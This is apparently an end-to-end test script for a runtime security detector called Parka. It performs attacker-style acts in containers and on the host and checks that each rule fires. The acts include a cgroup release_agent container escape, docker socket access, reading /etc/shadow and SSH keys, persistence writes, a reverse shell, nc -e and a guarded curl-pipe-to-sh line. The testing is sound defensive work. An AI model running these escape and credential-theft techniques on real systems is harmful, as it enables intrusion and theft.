#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Every rule that this kernel can show fires on the real act, and its finding says who, where and what.

Acts are done in real containers, or on the host in mount and network namespaces that are thrown away. Files that
matter are opened for writing and not written.
"""
import atexit
import glob
import os
import pty
import re
import shutil
import subprocess
import sys
import tempfile
import time

import harness
from harness import Container, run

sys.path.insert(0, os.path.join(harness.ROOT, "scripts"))
import rulefile  # noqa: E402

ENOSYS, EAFNOSUPPORT, ENODEV, ENOENT, EOPNOTSUPP = 38, 97, 19, 2, 95
# What this kernel or this machine cannot show, and where it is shown instead.
NOT_SHOWN = {
    "Kernel module loaded from a container": "needs a kernel that loads modules; fired from JSON in tests/rules",
    "Kernel module loaded from an unusual place": "needs a kernel that loads modules; fired from JSON in tests/rules",
    "Kernel module loaded by hand": "needs a kernel that loads modules; fired from JSON in tests/rules",
    "New kernel loaded": "would replace this kernel; fired from JSON in tests/rules",
    "Privileges changed with no lawful cause": "needs a kernel with a hole; the ledger has unit tests",
    "Docker copy helper loaded a library of the container": "needs a dockerd with CVE-2019-14271",
}


# Busybox runs them as "exe", or without a process of their own.
APPLETS = ("mount", "cat", "rm", "chmod", "touch", "ln", "find", "nc", "nsenter")


class Box:
    """The containers that the acts are done in."""

    def __init__(self):
        self.home = "/home/parka-e2e"
        os.makedirs(self.home + "/.ssh", exist_ok=True)
        atexit.register(shutil.rmtree, self.home, True)
        with open(self.home + "/.ssh/id_ed25519", "w", encoding="ascii") as file:
            file.write("not a key\n")
        self.bus = tempfile.mkdtemp(prefix="parka-e2e-dbus-")
        atexit.register(shutil.rmtree, self.bus, True)
        self.plain = Container("plain")
        every = harness.privileged_options()
        self.priv = Container("priv", *every)
        self.priv.sh("mount -o remount,rw /sys; mount -o remount,rw /sys/fs/cgroup")
        self.hostpid = Container("hostpid", *every, "--pid=host", "-v", self.home + ":/mnt", "-v", "/:/host")
        self.net = Container("net", "--cap-add=NET_ADMIN", "-v", self.bus + ":/run/dbus",
                             "-v", "/run/docker.sock:/var/run/docker.sock")
        self.hostnet = Container("hostnet", "--network=host")
        for ip in ("169.254.169.254/32", "198.51.100.7/32"):
            self.net.exec("ip", "addr", "add", ip, "dev", "lo")
        self.net.exec("ip", "link", "set", "lo", "up")


class Live:
    def __init__(self, tap, watch, box):
        self.tap, self.watch, self.box = tap, watch, box
        self.shown = set()
        self.tmp = tempfile.mkdtemp(prefix="parka-e2e-host-")
        atexit.register(shutil.rmtree, self.tmp, True)

    def expect(self, rule, act, where, skip_on=(), **fields):
        """Do the act; the rule's finding must come and hold these fields."""
        if rule in self.shown:
            return
        self.shown.add(rule)
        mark = self.watch.mark()
        try:
            done = act()
        except (OSError, RuntimeError, subprocess.SubprocessError) as why:
            self.tap.ok(False, f"live: {rule}", f"the act could not be done: {why}")
            return
        code = getattr(done, "returncode", 0)
        if code in skip_on:
            why = (getattr(done, "stderr", "") or "").strip().split("\n")[-1][:160]
            self.tap.skip(f"live: {rule}", f"this machine refuses the act ({code}): {why}")
            return
        wanted = dict(where)
        wanted.update({key.replace("__", "."): value for key, value in fields.items()})
        finding = self.watch.wait_for(rule, mark, **wanted)
        self.tap.ok(finding is not None, f"live: {rule}", "" if finding else self.why(rule, mark, wanted, done))

    def why(self, rule, mark, wanted, done):
        came = self.watch.since(mark)
        lines = [f"the act ended with {getattr(done, 'returncode', '?')}: {getattr(done, 'stderr', '')!s}".strip()]
        for finding in came:
            if finding["rule"] == rule:
                lines.append("came, but " + str(harness.fields_differ(finding, wanted)) + ": " + finding.get("output", ""))
        if len(lines) == 1:
            lines.append("did not come; came: " + ", ".join(sorted({f["rule"] for f in came})))
        return "\n".join(lines)

    # ---- in containers ----
    def where(self, container, name):
        return {"container.id": container.id, "container.name": container.name, "container.image": container.image,
                "user.name": "root", "proc.name": name}

    def inside(self, rule, container, command, name=None, skip_on=(), exec_options=None, **fields):
        """A command in a container; `name` of the process that is told of, when it is not the command's own."""
        if isinstance(command, str):
            def act():
                return container.sh(command, **(exec_options or {}))
            words = ["sh"]
        else:
            def act():
                return container.exec(*command, **(exec_options or {}))
            words = command
        name = name or os.path.basename(words[0])
        if isinstance(name, str) and name in APPLETS:
            name = re.compile(f"^({name}|exe|sh)$")
        where = self.where(container, name)
        self.expect(rule, act, where, skip_on, **fields)

    def started(self, rule, *options, command=("act", "sleep", "0"), skip_on=(), **fields):
        """A container that is started for this."""
        name = harness.PREFIX + "started"

        def act():
            run("docker", "rm", "-f", name)
            return run("docker", "run", "--name", name, *(options if any("--network" in o for o in options) else
                                                          ("--network=none", *options)), harness.IMAGE, *command)
        self.expect(rule, act, {"container.name": name, "container.image": harness.IMAGE}, skip_on, **fields)
        run("docker", "rm", "-f", name)

    # ---- on the host ----
    def program(self, name):
        path = os.path.join(self.tmp, name)
        if not os.path.exists(path):
            shutil.copy(harness.find_act(), path)
        return path

    def outside(self, rule, *command, name="act", skip_on=(), namespace=None, **fields):
        """A command on the host; `namespace`: a script that is run before, in a mount and network namespace of its own."""
        def act():
            if namespace is None:
                return run(*command)
            return run("unshare", "-m", "-n", "sh", "-ec", "ip link set lo up; " + namespace + '\nexec "$@"', "sh", *command)
        self.expect(rule, act, {"container.id": "host", "user.name": "root", "proc.name": name}, skip_on, **fields)


def escapes_through_files(live, box):
    plain, priv, host = box.plain, box.priv, box.hostpid
    group = "mkdir -p /tmp/cg && mount -t cgroup -o none,name=parkae2e cgroup /tmp/cg && mkdir -p /tmp/cg/x"
    live.inside("Cgroup file system mounted in a container", priv, group, name="mount", skip_on=(1, 32, 255))
    live.inside("Cgroup release agent written from a container", priv, ["act", "open-write", "/tmp/cg/release_agent"],
                skip_on=(ENOENT,), fd__name="/tmp/cg/release_agent")
    live.inside("Cgroup release notification switched on in a container", priv,
                ["act", "open-write", "/tmp/cg/x/notify_on_release"], skip_on=(ENOENT,), fd__name="/tmp/cg/x/notify_on_release")
    live.inside("Kernel core dump helper changed from a container", priv, ["act", "open-write", "/proc/sys/kernel/core_pattern"],
                fd__name="/proc/sys/kernel/core_pattern")
    helper = next(p for p in ("/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/proc/sys/kernel/poweroff_cmd")
                  if os.path.exists(p))
    live.inside("Kernel helper path changed from a container", priv, ["act", "open-write", helper], fd__name=helper)
    live.inside("Binary format registered from a container", priv,
                "mount -t binfmt_misc b /proc/sys/fs/binfmt_misc; exec act open-write /proc/sys/fs/binfmt_misc/register",
                name="act", skip_on=(ENOENT,))
    live.outside("Kernel helper settings changed on the host", harness.find_act(), "open-write", "/proc/sys/kernel/core_pattern",
                 fd__name="/proc/sys/kernel/core_pattern")
    helper_started(live, priv)
    live.inside("SysRq triggered from a container", priv, ["act", "open-write", "/proc/sysrq-trigger"], skip_on=(ENOENT,),
                fd__name="/proc/sysrq-trigger")
    live.outside("SysRq triggered on the host", harness.find_act(), "open-write", "/proc/sysrq-trigger", skip_on=(ENOENT,))
    image = os.path.join(live.tmp, "disk")
    run("truncate", "-s", "4M", image)
    run("mke2fs", "-q", "-F", image)
    loop = run("losetup", "-f", "--show", image).stdout.strip()
    atexit.register(run, "losetup", "-d", loop or "/dev/none")
    number = os.path.basename(loop) or "none"
    live.inside("Block device opened in a container", priv,
                f"rm -f /tmp/{number}; mknod /tmp/{number} b $(tr ':' ' ' < /sys/block/{number}/dev) && exec act open-read "
                f"/tmp/{number}", name="act", skip_on=(1, 6), fd__name="/tmp/" + number)
    live.inside("Block device mounted in a container", priv,
                f"rm -f /tmp/{number}; mknod /tmp/{number} b $(tr ':' ' ' < /sys/block/{number}/dev) && exec act mount /tmp/{number} /mnt ext2",
                name="act", skip_on=(1, 6, 19))
    live.inside("Block device node made in a container", plain, ["act", "mknod-block", "/tmp/disk", "7", "0"])
    devices = glob.glob("/sys/fs/cgroup/devices/devices.allow") + glob.glob("/sys/fs/cgroup/devices/docker/*/devices.allow")
    if devices:
        live.inside("Device list of a cgroup rewritten from a container", priv,
                    "mkdir -p /tmp/dev && mount -t cgroup -o devices d /tmp/dev; exec act open-write $(find /tmp/dev -name "
                    "devices.allow | tail -1)", name="act", fd__name=re.compile("devices.allow$"))


def helper_started(live, priv):
    """The whole of row 1: the kernel starts a program of the container on the host. It only sleeps."""
    rule = "Kernel started a program from a container's files"
    upper = run("docker", "inspect", "-f", "{{.GraphDriver.Data.UpperDir}}", priv.name).stdout.strip()
    if not upper.startswith("/"):
        live.shown.add(rule)
        live.tap.skip(f"live: {rule}", "this storage driver has no upper directory")
        return
    script = (f"cp /bin/act /payload; echo {upper}/payload > /tmp/cg/release_agent && echo 1 > /tmp/cg/x/notify_on_release && "
              "sh -c 'echo 0 > /tmp/cg/x/cgroup.procs; true'")
    live.expect(rule, lambda: priv.sh(script), {"container.id": "host", "proc.name": "payload"}, skip_on=(1, 2))


def hierarchy_remove():
    """The control group hierarchy of row 1 outlives its container: nothing of it may stay on the machine."""
    for _ in range(10):
        with open("/proc/self/cgroup", encoding="ascii") as file:
            if "name=parkae2e:" not in file.read():
                return
        run("unshare", "-m", "sh", "-c", "d=$(mktemp -d); mount -t cgroup -o none,name=parkae2e c $d && echo '' > $d/release_agent; "
            "find $d -depth -mindepth 1 -type d -exec rmdir {} ';'; umount $d; rmdir $d")
        time.sleep(1)
    print("# the hierarchy parkae2e is still there")


def escapes_through_mounts(live, box):
    plain, net, host = box.plain, box.net, box.hostpid
    live.inside("Container runtime socket used from a container", net, ["act", "unix", "/var/run/docker.sock"],
                fd__name=re.compile("docker.sock"))
    live.inside("Container runtime API reached over TCP from a container", net, ["act", "connect", "127.0.0.1", "2375"],
                fd__sport=2375)
    live.outside("Container runtime API opened on TCP", "/usr/sbin/dockerd", "listen", "127.0.0.1", "2375", name="dockerd",
                 namespace=f"mount --bind {harness.find_act()} /usr/sbin/dockerd")
    live.inside("Host file that runs as root written from a container", host, ["act", "create", "/mnt/.ssh/authorized_keys"],
                fd__hostpath=box.home + "/.ssh/authorized_keys")
    live.inside("Container changed its root to the host's", host, ["act", "chroot", "/host"])
    live.inside("Host secret read from a container", host, ["cat", "/mnt/.ssh/id_ed25519"],
                fd__hostpath=box.home + "/.ssh/id_ed25519")
    live.inside("Link out of the log directory made in a container", plain, ["ln", "-s", "/etc", "/var/log/etc"])
    victim = subprocess.Popen([live.program("victim"), "sleep", "300"])
    atexit.register(victim.kill)
    pid = str(victim.pid)
    live.inside("Container entered the host's namespaces", host, ["act", "setns", f"/proc/{pid}/ns/mnt"])
    live.inside("Namespace tool aimed at the host from a container", host, ["nsenter", "-t", "1", "-m", "true"])
    live.inside("Container reached the host through a process link", host,
                ["act", "open-read", f"/proc/{pid}/root/etc/hostname"])
    live.inside("Container took hold of a process outside", host, ["act", "ptrace", pid], target__name="victim",
                target__container__id="host")
    live.inside("Memory of another process opened for writing", host, ["act", "open-write", f"/proc/{pid}/mem"],
                fd__name=f"/proc/{pid}/mem")
    live.outside("Process of the host traced", harness.find_act(), "ptrace", pid, target__name="victim")
    live.inside("File opened by handle in a container", box.priv, "touch /dev/shm/f && exec act handle-read /dev/shm /dev/shm/f",
                name="act", skip_on=(EOPNOTSUPP,))
    live.inside("File handle attack tried in a container", plain, ["act", "handle-read", "/dev/shm", "/etc/hostname"])
    live.inside("Control socket of the host reached from a container", net, ["act", "unix", "/run/dbus/system_bus_socket"])
    live.inside("Container uses the host's local services", box.hostnet, ["act", "connect", "127.0.0.1", "18001"])


def escapes_through_kernel(live, box):
    plain, priv = box.plain, box.priv
    anybody = re.compile("")   # in a user namespace of its own the process is nobody that the host knows
    live.inside("Kernel module load tried in a container", priv, ["act", "module-load", "/etc/hostname"], skip_on=(ENOSYS,))
    live.inside("BPF program loaded from a container", priv, ["act", "bpf-load"])
    live.inside("New kernel started or loaded from a container", priv, ["act", "kexec"], skip_on=(ENOSYS,))
    memory = next((p for p in ("/proc/kcore", "/dev/mem", "/dev/port") if os.path.exists(p)), "/proc/kcore")
    live.inside("Kernel memory opened in a container", priv, ["act", "open-read", memory], skip_on=(ENOENT, 1, 6), fd__name=memory)
    live.outside("Kernel memory opened on the host", harness.find_act(), "open-read", memory, skip_on=(ENOENT, 1, 6))
    live.inside("Runtime binary opened for writing from a container", plain, ["act", "open-write", "/proc/self/exe"])
    live.inside("Working directory leaked from the host into a container", plain, ["act", "fd-chdir", "/tmp"])
    live.inside("Program started through an inherited descriptor", plain, ["act", "fd-exec", "/bin/act", "sleep", "0"],
                name=re.compile("."))
    live.inside("Shim control socket reached from a container", plain, ["act", "unix", "@/containerd-shim/e2e.sock"])
    live.inside("Paths exchanged in a container", plain, "touch /tmp/a /tmp/b; exec act exchange /tmp/a /tmp/b", name="act")
    live.inside("User namespace made in a container", priv, ["act", "unshare", "0x10000000"], user__name=anybody)
    live.inside("Kernel attack surface opened in a user namespace", priv, ["act", "as-userns-root", "socket", "16", "3", "12"],
                name=re.compile("^(act|exe)$"), user__name=anybody)
    live.inside("File system opened in a user namespace", priv,
                ["act", "as-userns-root", "fsopen", "overlay"], name=re.compile("^(act|exe)$"), skip_on=(ENODEV,),
                user__name=anybody)
    live.inside("Pages of a protected file moved into a pipe", plain, ["act", "splice", "/etc/passwd"],
                exec_options={"user": "www"}, user__name=re.compile("."))
    live.inside("Own memory opened for writing through proc", plain, ["act", "open-write", "/proc/self/mem"])
    live.inside("Kernel crypto socket opened in a container", plain, ["act", "socket", "38", "5", "0"])
    live.inside("Page faults handled by a program in a container", priv, ["act", "userfaultfd"], skip_on=(ENOSYS,))
    live.inside("io_uring used in a container", priv, ["act", "uring-setup"], skip_on=(ENOSYS, 1))
    live.inside("Packet socket opened in a container", plain, ["act", "socket", "17", "3", "768"])
    live.expect("Kernel ran out of memory and killed a process",
                lambda: run("docker", "run", "--rm", "--network=none", "-m", "16m", harness.IMAGE, "act", "eat-memory", "200"),
                {"target.name": "act"})


def credentials_and_cluster(live, box):
    plain, net = box.plain, box.net
    live.inside("Set-id program from the container's writable layer started", plain,
                "cp /bin/act /tmp/rootsh; chmod 4755 /tmp/rootsh; exec /tmp/rootsh sleep 0", name="rootsh")
    live.inside("Set-id program used in a container", plain, ["setid", "sleep", "0"])
    secrets = "/run/secrets/kubernetes.io/serviceaccount"
    live.inside("Service account token read by something else than the workload", plain,
                f"mkdir -p {secrets}; echo x > {secrets}/token; exec cat {secrets}/token", name="cat", fd__name=secrets + "/token")
    live.inside("Kubelet API reached from a container", net, ["act", "connect", "127.0.0.1", "10250"], fd__sport=10250)
    live.inside("Metadata service reached from a container", net, ["act", "connect", "169.254.169.254", "80"],
                fd__sip="169.254.169.254")
    live.inside("Etcd reached by something else than the control plane", net, ["act", "connect", "127.0.0.1", "2379"],
                fd__sport=2379)
    live.inside("Static pod manifest written", plain,
                "mkdir -p /etc/kubernetes/manifests; exec act create /etc/kubernetes/manifests/x.yaml", name="act",
                fd__name="/etc/kubernetes/manifests/x.yaml")
    live.inside("Kubernetes API called by a general tool in a container", net, ["kubectl", "connect", "127.0.0.1", "6443"])


def containers(live, box):
    plain = box.plain
    live.inside("Shell opened in a running container", plain, ["sh", "-c", "true"], exec_options={"tty": True},
                session__kind="docker-exec")
    live.inside("Command run in a running container", plain, ["act", "sleep", "0"], session__kind="docker-exec")
    live.started("Interactive shell as a container's first program", "-t", command=("sh", "-c", "true"))
    live.inside("Package manager run in a running container", plain, ["apk", "sleep", "0"])
    live.started("Package manager run in a container", command=("sh", "-c", "apk sleep 0; true"), proc__name="apk")
    live.inside("Program not in the image started", plain, "cp /bin/act /new; exec /new sleep 0", name="new",
                proc__exepath="/new")
    live.inside("Program built in the container started", plain, "cp /bin/act /built; exec make run /built sleep 0",
                name="built")
    live.inside("Container changed one of its own programs", plain, ["act", "create", "/usr/bin/changed"],
                fd__name="/usr/bin/changed")
    live.started("Privileged container started", "--privileged", skip_on=(125,))
    live.started("Container started with the host's root mounted", "-v", "/:/host:ro")
    live.started("Container started with sensitive host paths mounted", "-v", "/run/docker.sock:/var/run/docker.sock")
    live.started("Container started in the host's process namespace", "--pid=host")
    live.inside("Container client run in a container", plain, ["kubectl", "sleep", "0"])
    live.inside("Escape tool run", plain, "cp /bin/act /tmp/deepce.sh; exec /tmp/deepce.sh sleep 0", name="deepce.sh")


def execution(live, box):
    plain, net, priv = box.plain, box.net, box.priv
    live.inside("Shell tied to a network connection", net, ["act", "reverse-shell", "127.0.0.1", "9001"], name="sh")
    live.inside("Standard input or output tied to a network connection", net, ["act", "reverse-shell", "127.0.0.1", "9002"])
    live.inside("Program run from memory", plain, ["act", "memfd-exec", "/bin/act", "sleep", "0"], name=re.compile("."))
    live.inside("Deleted program run", plain, ["act", "deleted-exec", "/bin/act", "/tmp/gone", "sleep", "0"],
                name=re.compile("."))
    live.inside("Program run from shared memory", priv,
                "mount -o remount,exec /dev/shm; cp /bin/act /dev/shm/run; exec /dev/shm/run sleep 0", name="run",
                proc__exepath="/dev/shm/run")
    live.inside("Program run from a temporary directory", plain, "cp /bin/act /tmp/run; exec /tmp/run sleep 0", name="run")
    live.inside("Written memory made executable", plain, "cp /bin/act /tmp/packed; exec /tmp/packed unpack", name="packed")
    live.inside("Hidden program run", plain, "cp /bin/act /tmp/.run; exec /tmp/.run sleep 0", name=".run")
    live.inside("Web server started a shell", plain, ["nginx", "run", "sh", "-c", "true"], name="sh")
    live.inside("Database server started a shell or tool", plain, ["postgres", "run", "sh", "-c", "true"], name="sh")
    live.inside("Crypto miner run", plain, "cp /bin/act /tmp/xmrig; exec /tmp/xmrig sleep 0", name="xmrig")
    live.inside("Crypto mining pool reached", net, ["act", "connect", "198.51.100.7", "3333"], fd__sport=3333)
    live.inside("Mining pool name asked for", plain, ["act", "dns", "pool.supportxmr.com"], skip_on=(101,),
                dns__question="pool.supportxmr.com")
    live.inside("Download piped into a shell", plain, ["sh", "-c", "true || curl -s http://198.51.100.7/a | sh"])
    live.inside("Network tool with a program option run", plain, ["nc", "-e", "/bin/true", "127.0.0.1", "1"])
    live.inside("Network scanner run in a container", plain, ["nmap", "sleep", "0"])
    live.inside("Library preloaded into a program", plain, "LD_PRELOAD=/tmp/x.so exec act sleep 0", name="act")


PERSISTENCE = (
    ("Scheduled job written", "/etc/cron.d/live"),
    ("System service written", "/etc/systemd/system/live.service"),
    ("Shell start file written", "/etc/profile.d/live.sh"),
    ("Shell start file of a user written", "/root/.bashrc"),
    ("Library preload for all programs written", "/etc/ld.so.preload"),
    ("Library search path changed", "/etc/ld.so.conf.d/live.conf"),
    ("Authorized SSH keys written", "/root/.ssh/authorized_keys"),
    ("Login configuration written", "/etc/pam.d/live"),
    ("Device event rule written", "/etc/udev/rules.d/live.rules"),
    ("Kernel module start-up written", "/etc/modules-load.d/live.conf"),
    ("Package source or hook written", "/etc/apt/apt.conf.d/live"),
    ("Account file written", "/etc/passwd"),
)


def files(live, box):
    plain = box.plain
    live.inside("Account file read", plain, ["cat", "/etc/shadow"], fd__name="/etc/shadow", session__kind="docker-exec")
    live.inside("Trusted program replaced in a container read an account file", plain,
                "cp /bin/act /usr/sbin/sshd; exec /usr/sbin/sshd open-read /etc/shadow", name="sshd", fd__name="/etc/shadow")
    live.inside("SSH private key read", plain, ["cat", "/root/.ssh/id_ed25519"], fd__name="/root/.ssh/id_ed25519")
    live.inside("Credential file read by a general tool", plain, ["cat", "/root/.aws/credentials"],
                fd__name="/root/.aws/credentials")
    live.inside("Search for secrets", plain, ["find", "/root", "-name", "id_rsa"])
    live.inside("Environment of another process read", plain, ["cat", "/proc/1/environ"], fd__name="/proc/1/environ")
    for rule, path in PERSISTENCE:
        live.inside(rule, plain, f"mkdir -p {os.path.dirname(path)}; exec act create {path}", name="act", fd__name=path)
    live.started("System file written while a container starts or is built",
                 command=("sh", "-c", "echo x:x:100:100::/:/bin/sh >> /etc/passwd"), fd__name="/etc/passwd")
    live.inside("User account changed", plain, ["useradd", "sleep", "0"])
    live.inside("Set-id bit given to a file", plain, "touch /tmp/s; exec chmod 4755 /tmp/s", name="chmod", fs__path__name="/tmp/s")
    live.inside("Capabilities given to a file", plain, "touch /tmp/c; exec act file-capability /tmp/c", name="act",
                fs__path__name="/tmp/c")
    live.inside("System log removed or emptied", plain, ["rm", "/var/log/wtmp"], fs__path__name="/var/log/wtmp")
    live.inside("Shell history removed or emptied", plain, "touch /root/.bash_history; exec rm /root/.bash_history", name="rm")
    live.inside("File made unremovable or time stamp forged", plain, ["touch", "-r", "/etc/hostname", "/tmp/old"])
    files_on_host(live)


def at_terminal(command):
    """On the host, with a controlling terminal and the login uid of root."""
    pid, fd = pty.fork()
    if pid == 0:
        try:
            with open("/proc/self/loginuid", "w", encoding="ascii") as file:
                file.write("0")
        except OSError:
            pass
        os.execv(command[0], command)
    while True:
        try:
            if not os.read(fd, 4096):
                break
        except OSError:
            break
    os.close(fd)
    return subprocess.CompletedProcess(command, os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), "", "")


def files_on_host(live):
    runc = shutil.which("runc")
    live.outside("New program at a trusted place read an account file", "/usr/bin/passwd", "open-read", "/etc/shadow",
                 name="passwd", namespace=f"mount --bind {live.program('fresh')} /usr/bin/passwd")
    spare = os.path.join(live.tmp, "spare")
    shutil.copy("/bin/true", spare)
    live.outside("Runtime program of the host changed", harness.find_act(), "open-write", runc,
                 namespace=f"mount --bind {spare} {runc}", fd__name=os.path.realpath(runc))
    # Not below `make test`: what builds may write there. The kernel's parent counts once the real one has ended.
    orphan = ("setsid", "--fork", "sh", "-c", 'sleep 0.3; exec "$@"', "sh")
    live.outside("Program directory of the host changed", *orphan, harness.find_act(), "open-write", "/usr/bin/false",
                 namespace=f"mount --bind {spare} /usr/bin/false", fd__name="/usr/bin/false")
    aws = "/home/parka-e2e/.aws"
    os.makedirs(aws, exist_ok=True)
    with open(aws + "/credentials", "w", encoding="ascii") as file:
        file.write("none\n")
    live.expect("Credential file read at a terminal", lambda: at_terminal(["/usr/bin/cat", aws + "/credentials"]),
                {"container.id": "host", "proc.name": "cat", "fd.name": aws + "/credentials"})
    rule = "Scheduled job written at a terminal"
    if not os.path.exists("/proc/self/loginuid"):
        live.shown.add(rule)
        live.tap.skip(f"live: {rule}", "this kernel keeps no login uid")
    else:
        live.expect(rule, lambda: at_terminal(["/usr/bin/unshare", "-m", "sh", "-c", "mount -t tmpfs t /etc/cron.d && exec "
                                               f"{harness.find_act()} create /etc/cron.d/live"]),
                    {"container.id": "host", "proc.name": "act", "fd.name": "/etc/cron.d/live"})


def network(live, box):
    net, plain = box.net, box.plain
    live.inside("Server program made a shell or netcat connect out", net,
                ["nginx", "run", "bash", "connect", "198.51.100.7", "9003"], name="bash")
    live.inside("Shell connected to the network", net, ["bash", "connect", "198.51.100.7", "9004"])
    live.inside("Network tool connected out of a container", net, ["ncat", "connect", "198.51.100.7", "9005"])
    live.inside("Network tool listens", net, ["ncat", "listen", "127.0.0.1", "9006"])
    live.inside("SSH client or server run in a container", plain, ["ssh", "sleep", "0"])
    live.inside("Tunnel or anonymizer used", plain, ["chisel", "sleep", "0"])
    live.inside("Long name asked of DNS", plain, ["act", "dns", "a" * 60 + ".example"], skip_on=(101,))


def kernel_and_parka(live, box):
    act = harness.find_act()
    live.outside("BPF program loaded", act, "bpf-load")
    agent = subprocess.Popen([live.program("ssh-agent"), "sleep", "300"])
    atexit.register(agent.kill)
    with open(f"/proc/{agent.pid}/maps", encoding="ascii") as file:
        address = "0x" + file.readline().split("-")[0]
    live.outside("Memory of a login program read", act, "memory-read", str(agent.pid), address, target__name="ssh-agent")
    setting = next((p for p in ("/proc/sys/kernel/kptr_restrict", "/proc/sys/kernel/randomize_va_space") if os.path.exists(p)), "")
    live.outside("Sandbox of the kernel weakened", act, "open-write", setting, fd__name=setting)
    live.outside("Security service stopped", live.program("systemctl"), "sleep", "0", "stop", "auditd", name="systemctl")
    watcher = str(live.watch.process.pid)
    winch = "28"   # ignored by who does not ask for it
    live.outside("Parka was sent a signal", act, "kill", watcher, winch)
    live.outside("Parka was traced", act, "ptrace", watcher)
    live.inside("Parka's files were changed", box.plain, "mkdir -p /etc/parka; exec act create /etc/parka/x.yaml", name="act")
    group = next((p for p in ("/sys/fs/cgroup/unified", "/sys/fs/cgroup") if os.path.exists(p + "/cgroup.controllers")), None)
    if group:
        os.makedirs(group + "/parka-e2e", exist_ok=True)
        live.outside("BPF link or program of another detached", act, "bpf-detach", group + "/parka-e2e")
        os.rmdir(group + "/parka-e2e")


def events_are_lost(live):
    """Rings that are too small for a flood: what was lost is told."""
    rule = "parka telemetry gap"
    watch = harness.Watch(options=("--ring-size", "65536", "--all-events"))
    watch.wait_ready()
    flood = [subprocess.Popen([harness.find_act(), "open-loop", "/etc/hostname"]) for _ in range(2)]
    finding = watch.wait_for(rule, 0, timeout=12)   # told every five seconds
    for one in flood:
        one.kill()
        one.wait()
    watch.stop()
    live.tap.ok(finding is not None and "open" in finding["output"], f"live: {rule}", [finding, watch.stderr_lines[-3:]])


def main():
    harness.need()
    tap = harness.Tap()
    watch = harness.watch_or_skip(options=())
    box = Box()
    live = Live(tap, watch, box)
    for part in (escapes_through_files, escapes_through_mounts, escapes_through_kernel, credentials_and_cluster, containers,
                 execution, files, network, kernel_and_parka):
        part(live, box)
    events_are_lost(live)
    for rule in rulefile.rules(harness.RULES):
        name = rule["name"]
        if name in live.shown:
            continue
        if name in NOT_SHOWN:
            tap.skip(f"live: {name}", NOT_SHOWN[name])
        else:
            tap.ok(False, f"live: {name}", "no act for this rule on this machine")
    watch.stop()
    harness.containers_remove()
    hierarchy_remove()
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
